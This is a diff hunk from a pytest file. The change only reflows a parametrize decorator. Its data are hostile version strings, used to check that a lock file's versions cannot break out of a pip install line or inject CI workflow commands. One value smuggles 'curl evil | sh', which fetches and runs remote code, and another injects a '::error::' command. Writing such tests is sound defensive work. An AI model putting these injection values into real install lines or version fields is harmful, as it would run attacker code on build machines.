@@ -119,9 +119,7 @@ def test_an_unreadable_lock_is_reported_not_trusted(gen: Path):
     assert result.exit_code == 1 and f"{gen / lock.NAME}: not what orlgen writes" in result.stdout
 
 
-@pytest.mark.parametrize(
-    "version", ["0.3.0\\n::error::injected", "26.10.1'; curl evil | sh; echo '", "1.0 2.0", ""]
-)
+@pytest.mark.parametrize("version", ["0.3.0\\n::error::injected", "26.10.1'; curl evil | sh; echo '", "1.0 2.0", ""])
 def test_a_lock_whose_words_are_no_versions_is_not_read(gen: Path, version: str):
     """A lock is repository data: a version that could break out of the `pip install '...'` line
     or start a CI workflow command is not read. check reports the file as hand-edited (its diff
